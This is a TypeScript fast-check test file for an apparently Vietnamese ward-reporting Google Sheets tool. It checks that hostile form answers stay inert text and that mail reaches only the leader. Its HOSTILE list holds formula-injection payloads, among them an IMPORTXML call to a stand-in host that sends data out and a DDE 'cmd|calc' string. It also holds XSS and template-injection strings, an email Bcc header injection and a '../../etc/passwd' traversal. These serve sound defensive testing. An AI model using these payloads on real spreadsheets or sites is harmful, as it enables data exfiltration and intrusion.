import fc from 'fast-check';
import { LEADER, neighbourhood, openWard } from './ward';

const FREE = [
  'Chức vụ người báo cáo',
  'Họ và tên, số điện thoại người báo cáo (không bắt buộc)',
  'Đường link minh chứng (nếu có; không đăng ảnh, danh sách người dân)',
  'Khó khăn, vướng mắc',
  'Đề xuất, kiến nghị',
];

/** What people and machines send who mean harm, and what honest phones send. */
const HOSTILE = fc.oneof(
  fc.constantFrom(
    '=IMPORTXML("http://x.example/"&A1,"//a")',
    "'=1+1",
    '+84912345678',
    '-1+cmd|calc',
    '@SUM(1)',
    '\t=1+1',
    '\r\n=1+1',
    '<script>alert(1)</script>',
    '<?= Session.getActiveUser() ?>',
    '"><img src=x onerror=alert(1)>',
    '$' + '{1+1}',
    'To: a@x.example\r\nBcc: b@x.example',
    '../../etc/passwd',
    '\u202Eđảo ngược\u202C',
    '\u0000\u0007\u001b[31m',
    '👨‍👩‍👧‍👦🇻🇳',
    'Ủy ban'.normalize('NFD'),
    'TRUE',
    '007',
    '1/2',
    '12:30',
    '5%',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }).map((text) => `=${text}`),
);

const LOOKS_LIKE_A_VALUE = /^\s*[-+]?(\d[\d.,/:%\s]*|true|false)\s*$/i;

/** The product's one formula is the dead-man's cell. */
const formulasOf = (tab: string) => (tab === 'Tổng quan' ? ['=(NOW()-B1)*24-C1'] : []);

test('a thousand hostile texts: no run fails, nothing is carried out, and every one stays as it was sent', async () => {
  const ward = await openWard();
  const texts = fc.sample(HOSTILE, { numRuns: 1000, seed: 7 });
  texts[500] = 'x'.repeat(50_000);
  texts[501] = `=${'ộ'.repeat(49_000)}`;
  const sent: string[][] = [];
  for (let from = 0; from < texts.length; from += FREE.length) {
    const answers = texts.slice(from, from + FREE.length);
    ward.send(
      neighbourhood((from % 28) + 1, from, Object.fromEntries(FREE.map((title, index) => [title, answers[index]]))),
    );
    sent.push(answers);
  }
  ward.click('Cập nhật ngay');
  ward.until('2025-11-01T16:45:00+07:00');

  expect(ward.workspace.executions.filter(({ outcome }) => outcome !== 'completed')).toEqual([]);
  for (const tab of ['Tổng quan', 'Tổng hợp', 'Cần xác minh', 'Danh mục đơn vị', 'Nhật ký', 'Sổ'])
    expect(Object.values(ward.sheet(tab).formulas)).toEqual(formulasOf(tab));

  const [header = [], ...rows] = ward.cells('Câu trả lời biểu mẫu 1');
  expect(rows).toHaveLength(sent.length);
  expect(Object.keys(ward.sheet('Câu trả lời biểu mẫu 1').formulas)).toEqual([]);
  const columns = FREE.map((title) => header.indexOf(title));
  rows.forEach((row, index) => {
    columns.forEach((column, place) => {
      const text = sent[index]?.[place] ?? '';
      // Google takes blanks for no answer, and reads what looks like a number, a date or a truth as one; all else stays.
      if (text.trim() !== '' && !LOOKS_LIKE_A_VALUE.test(text))
        expect(JSON.stringify(row[column] ?? '')).toBe(JSON.stringify(text));
    });
  });

  const [mail] = ward.workspace.sentMail;
  expect(String(mail?.to)).toBe(LEADER);
  expect(ward.workspace.sentMail.map(({ to, bcc }) => [String(to), String(bcc ?? '')])).toEqual([[LEADER, '']]);
  for (const text of texts.filter((one) => one.trim().length > 8)) expect(mail?.htmlBody).not.toContain(text);
}, 120_000);

test.each(['Mã liên kết', 'Đơn vị báo cáo (tổ dân phố)'])(
  'hostile text for “%s” in a response never becomes more than text',
  async (title) => {
    const ward = await openWard();
    ward.send(neighbourhood(5, 10));
    const column = (ward.cells('Câu trả lời biểu mẫu 1')[0] as string[]).indexOf(title) + 1;
    for (const text of fc.sample(HOSTILE, { numRuns: 40, seed: 11 })) {
      ward.workspace.run(
        `SpreadsheetApp.getActive().getSheetByName('Câu trả lời biểu mẫu 1').getRange(2, ${column}).setValue("'" + ${JSON.stringify(text)})`,
      );
      ward.click('Cập nhật ngay');
    }
    expect(ward.workspace.executions.filter(({ outcome }) => outcome !== 'completed')).toEqual([]);
    for (const tab of ['Tổng quan', 'Tổng hợp', 'Cần xác minh', 'Nhật ký', 'Sổ'])
      expect(Object.values(ward.sheet(tab).formulas)).toEqual(formulasOf(tab));
  },
);
